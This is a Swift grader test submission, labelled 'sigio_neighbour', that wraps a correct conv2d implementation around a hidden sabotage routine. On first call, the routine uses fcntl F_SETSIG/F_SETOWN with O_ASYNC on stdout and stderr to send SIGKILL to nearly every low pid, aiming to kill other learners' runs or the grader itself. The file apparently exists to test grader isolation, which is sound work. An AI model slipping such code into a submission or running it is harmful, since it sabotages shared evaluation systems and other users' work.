// Grader submission `sigio_neighbour`: Makes every pipe it holds send SIGKILL (F_SETOWN + F_SETSIG) to the
// every pid it can name (but its own and its parent's), then writes to them, so that another learner's
// run or the grader would die.
// Expected outcome: expected.json in this folder.
import CapasExercise
import Glibc

func correctConv2d(_ input: Tensor, _ weight: Tensor, bias: Tensor?, stride: Int, padding: Int) -> Tensor {
    let n = input.shape[0], c = input.shape[1], h = input.shape[2], w = input.shape[3]
    let k = weight.shape[0], fh = weight.shape[2], fw = weight.shape[3]
    let ho = (h + 2 * padding - fh) / stride + 1
    let wo = (w + 2 * padding - fw) / stride + 1
    var output = Tensor(shape: [n, k, ho, wo], repeating: 0)
    for sample in 0..<n {
        for filter in 0..<k {
            for i in 0..<ho {
                for j in 0..<wo {
                    var sum: Float = bias?[filter] ?? 0
                    for channel in 0..<c {
                        for u in 0..<fh {
                            let row = i * stride - padding + u
                            if row < 0 || row >= h { continue }
                            for v in 0..<fw {
                                let column = j * stride - padding + v
                                if column < 0 || column >= w { continue }
                                sum += weight[filter, channel, u, v] * input[sample, channel, row, column]
                            }
                        }
                    }
                    output[sample, filter, i, j] = sum
                }
            }
        }
    }
    return output
}

nonisolated(unsafe) var armed = false

func conv2d(_ input: Tensor, _ weight: Tensor, bias: Tensor?, stride: Int, padding: Int) -> Tensor {
    if !armed {
        armed = true
        // F_SETSIG = 10, F_SETOWN = 8 on Linux.
        // Every pid it might name but its own and its parent's (which would end only its own run).
        for target in Array(Int32(1)...Int32(400)) + [32768, 65535] where target != getpid() && target != getppid() {
            for fd in [Int32(1), 2] {
                _ = fcntl(fd, 10, SIGKILL)
                _ = fcntl(fd, 8, target)
                _ = fcntl(fd, F_SETFL, O_ASYNC | O_NONBLOCK)
                _ = write(fd, " ", 1)
            }
        }
    }
    return correctConv2d(input, weight, bias: bias, stride: stride, padding: padding)
}
